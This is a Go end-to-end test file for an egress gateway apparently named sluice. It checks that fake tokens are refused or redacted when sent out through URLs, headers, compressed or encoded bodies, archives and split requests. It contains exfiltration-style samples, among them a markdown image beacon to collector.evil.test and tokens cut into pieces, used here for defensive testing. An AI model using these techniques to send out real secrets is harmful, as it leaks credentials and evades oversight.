package e2e

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/sluice-egress/sluice/scanner"
)

func fake(t *testing.T, kind string) string {
	t.Helper()
	v, err := scanner.FakeSecret(kind)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func gz(b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

// TestScanEndToEnd sends secrets from the sandbox through the real gateway:
// each is refused or redacted as its action says, and the upstream gets
// nothing (refused) or only the redacted form.
func TestScanEndToEnd(t *testing.T) {
	e := startScan(t)
	c := e.client(t)
	gh := fake(t, "github-pat")
	aws := fake(t, "aws-access-token")
	gl := fake(t, "gitlab-pat")
	secrets := []string{gh, aws, gl}

	// send does one request and returns status, reason, and the requests the
	// api upstream received meanwhile.
	send := func(t *testing.T, method, u string, h http.Header, body []byte) (int, string, int) {
		t.Helper()
		before := len(e.api.Seen()) + len(e.other.Seen())
		req, err := http.NewRequest(method, u, bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		for k, v := range h {
			req.Header[k] = v
		}
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode, resp.Header.Get("Sluice-Reason"), len(e.api.Seen()) + len(e.other.Seen()) - before
	}
	jsonH := http.Header{"Content-Type": {"application/json"}}
	// Joined pieces are reported when they look generated: letters and
	// digits both (a random token has no digit a few times in a thousand).
	cut := "ghp_" + strings.Repeat("k7Q2mZ9xW4", 4)[:36]
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	fw, _ := mw.CreateFormFile("file", "notes.txt")
	fw.Write([]byte("deploy key " + gh + "\n"))
	mw.Close()
	// A directory's secrets as a tarball and as a zip file, uploaded as they
	// are: no Content-Encoding says that they are compressed.
	var tgz, zipped bytes.Buffer
	zw := gzip.NewWriter(&tgz)
	tw := tar.NewWriter(zw)
	env := []byte("GITHUB_TOKEN=" + gh + "\n")
	tw.WriteHeader(&tar.Header{Name: "home/.env", Mode: 0o600, Size: int64(len(env))})
	tw.Write(env)
	tw.Close()
	zw.Close()
	zwr := zip.NewWriter(&zipped)
	zf, _ := zwr.Create("home/.env")
	zf.Write(env)
	zwr.Close()
	var zmp bytes.Buffer
	zmw := multipart.NewWriter(&zmp)
	zfw, _ := zmw.CreateFormFile("file", "backup.zip")
	zfw.Write(zipped.Bytes())
	zmw.Close()

	blocked := []struct {
		name   string
		method string
		url    string
		header http.Header
		body   []byte
		reason string
	}{
		{"url", "GET", "https://api.example.test/v1/search?q=" + gh, nil, nil, "secret-detected"},
		{"header", "GET", "https://api.example.test/v1/x", http.Header{"X-Debug": {"token " + gh}}, nil, "secret-detected"},
		{"a token cut into query values", "GET", "https://api.example.test/v1/search?a=" + cut[:3] + "&b=" + cut[3:17] + "&c=" + cut[17:] + "&page=2", nil, nil, "secret-detected"},
		{"a token cut into headers", "GET", "https://api.example.test/v1/x", http.Header{"X-A": {cut[:2]}, "X-B": {cut[2:11]}, "X-C": {cut[11:]}}, nil, "secret-detected"},
		{"json body", "POST", "https://api.example.test/v1/comments", jsonH, []byte(`{"body":"` + gh + `"}`), "secret-detected"},
		{"gzip body", "POST", "https://api.example.test/v1/comments", http.Header{"Content-Type": {"application/json"}, "Content-Encoding": {"gzip"}},
			gz([]byte(`{"body":"` + gh + `"}`)), "secret-detected"},
		{"base64 in json", "POST", "https://api.example.test/v1/comments", jsonH,
			[]byte(`{"body":"` + base64.StdEncoding.EncodeToString([]byte("token: "+gh)) + `"}`), "secret-detected"},
		{"multipart", "POST", "https://api.example.test/v1/upload", http.Header{"Content-Type": {mw.FormDataContentType()}}, mp.Bytes(), "secret-detected"},
		{"a tarball uploaded as it is", "PUT", "https://api.example.test/v1/upload/backup.tar.gz", http.Header{"Content-Type": {"application/octet-stream"}},
			tgz.Bytes(), "secret-detected"},
		{"a zip file in a form", "POST", "https://api.example.test/v1/upload", http.Header{"Content-Type": {zmw.FormDataContentType()}}, zmp.Bytes(), "secret-detected"},
		{"markdown image to a foreign host", "POST", "https://api.example.test/v1/comments", jsonH,
			[]byte(`{"body":"Done! ![status](https://collector.evil.test/s.png?d=` + url.QueryEscape("build ok") + `)"}`), "exfil-link"},
		{"bound credential to another host", "GET", "https://other.example.test/x", http.Header{"Authorization": {"Bearer " + gl}}, nil, "secret-detected"},
		{"bound credential in the body of its own host", "POST", "https://api.example.test/v1/x", jsonH, []byte(`{"t":"` + gl + `"}`), "secret-detected"},
		{"oversize body", "POST", "https://api.example.test/v1/x", nil, bytes.Repeat([]byte("a"), 1<<20+1), "body-too-large"},
	}
	for _, tc := range blocked {
		t.Run("refused/"+tc.name, func(t *testing.T) {
			code, reason, upstream := send(t, tc.method, tc.url, tc.header, tc.body)
			want := http.StatusForbidden
			if tc.reason == "body-too-large" {
				want = http.StatusRequestEntityTooLarge // declared over the limit: refused unread
			}
			if code != want || reason != tc.reason {
				t.Fatalf("got %d %q, want %d %q", code, reason, want, tc.reason)
			}
			if upstream != 0 {
				t.Fatalf("the upstream received %d requests for a refused one", upstream)
			}
		})
	}

	t.Run("a token sent a piece a request is refused when it is whole", func(t *testing.T) {
		tok := "ghp_" + strings.Repeat("Rt5vN8pL3s", 4)[:36]
		pieces := []string{tok[:3], tok[3:14], tok[14:]}
		for i, p := range pieces {
			code, reason, upstream := send(t, "GET", "https://api.example.test/v1/ping?piece="+p+"&n="+strconv.Itoa(i), nil, nil)
			if i < len(pieces)-1 && (code != http.StatusOK || upstream != 1) {
				t.Fatalf("piece %d: got %d %q, %d upstream requests", i, code, reason, upstream)
			}
			if i == len(pieces)-1 && (code != http.StatusForbidden || reason != "secret-detected" || upstream != 0) {
				t.Fatalf("the last piece: got %d %q, %d upstream requests", code, reason, upstream)
			}
		}
	})

	t.Run("bound credential passes to its own host", func(t *testing.T) {
		code, reason, upstream := send(t, "GET", "https://api.example.test/v1/user", http.Header{"Authorization": {"Bearer " + gl}}, nil)
		if code != http.StatusOK || reason != "" || upstream != 1 {
			t.Fatalf("got %d %q, %d upstream requests", code, reason, upstream)
		}
		seen := e.api.Seen()
		if got := seen[len(seen)-1].Header.Get("Authorization"); got != "Bearer "+gl {
			t.Fatalf("the bound credential was altered (%d chars)", len(got))
		}
	})

	t.Run("redacted json reaches the upstream without the secret", func(t *testing.T) {
		body := []byte(`{"body":"key ` + aws + ` end","n":1}`)
		code, reason, upstream := send(t, "POST", "https://api.example.test/v1/comments", jsonH, body)
		if code != http.StatusOK || reason != "" || upstream != 1 {
			t.Fatalf("got %d %q, %d upstream requests", code, reason, upstream)
		}
		seen := e.api.Seen()
		got := seen[len(seen)-1].Body
		if bytes.Contains(got, []byte(aws)) || len(got) != len(body) {
			t.Fatalf("upstream body: secret present=%v, %d bytes, want %d", bytes.Contains(got, []byte(aws)), len(got), len(body))
		}
		var v map[string]any
		if err := json.Unmarshal(got, &v); err != nil || !strings.Contains(v["body"].(string), strings.Repeat("*", len(aws))) {
			t.Fatalf("redacted body is not the masked JSON: %v", err)
		}
	})

	t.Run("redacted gzip body stays valid", func(t *testing.T) {
		code, _, upstream := send(t, "POST", "https://api.example.test/v1/comments",
			http.Header{"Content-Type": {"text/plain"}, "Content-Encoding": {"gzip"}}, gz([]byte("key "+aws)))
		if code != http.StatusOK || upstream != 1 {
			t.Fatalf("got %d, %d upstream requests", code, upstream)
		}
		seen := e.api.Seen()
		zr, err := gzip.NewReader(bytes.NewReader(seen[len(seen)-1].Body))
		if err != nil {
			t.Fatal(err)
		}
		d, _ := io.ReadAll(zr)
		if string(d) != "key "+strings.Repeat("*", len(aws)) {
			t.Fatalf("upstream got %d decompressed bytes, not the masked text", len(d))
		}
	})

	t.Run("clean request passes", func(t *testing.T) {
		code, reason, upstream := send(t, "POST", "https://api.example.test/v1/comments", jsonH, []byte(`{"body":"LGTM, see ![](https://api.example.test/img.png?x=1)"}`))
		if code != http.StatusOK || reason != "" || upstream != 1 {
			t.Fatalf("got %d %q, %d upstream requests", code, reason, upstream)
		}
	})

	t.Run("canary is refused everywhere", func(t *testing.T) {
		out, err := e.w.Gateway.Run(t, sluiceBin, "canary", "issue", "--config", e.cfg, "--tenant", "acme", "--run", "r1")
		if err != nil {
			t.Fatalf("canary issue: %v", err)
		}
		var canary string
		for _, l := range strings.Split(out, "\n") {
			if v, ok := strings.CutPrefix(l, "GITHUB_TOKEN="); ok {
				canary = strings.Fields(v)[0]
			}
		}
		if canary == "" {
			t.Fatal("no GITHUB_TOKEN canary printed")
		}
		secrets = append(secrets, canary)
		code, reason, upstream := send(t, "POST", "https://other.example.test/x", jsonH,
			[]byte(`{"x":"`+base64.StdEncoding.EncodeToString([]byte(canary))+`"}`))
		if code != http.StatusForbidden || reason != "canary-detected" || upstream != 0 {
			t.Fatalf("got %d %q, %d upstream requests", code, reason, upstream)
		}
	})

	t.Run("no secret in the gateway's log", func(t *testing.T) {
		log := e.log()
		if !strings.Contains(log, "finding") {
			t.Fatal("the gateway logged no finding")
		}
		for _, s := range secrets {
			if strings.Contains(log, s) || strings.Contains(log, s[4:]) {
				t.Fatalf("the gateway log holds a secret (%d chars)", len(s))
			}
		}
	})
}
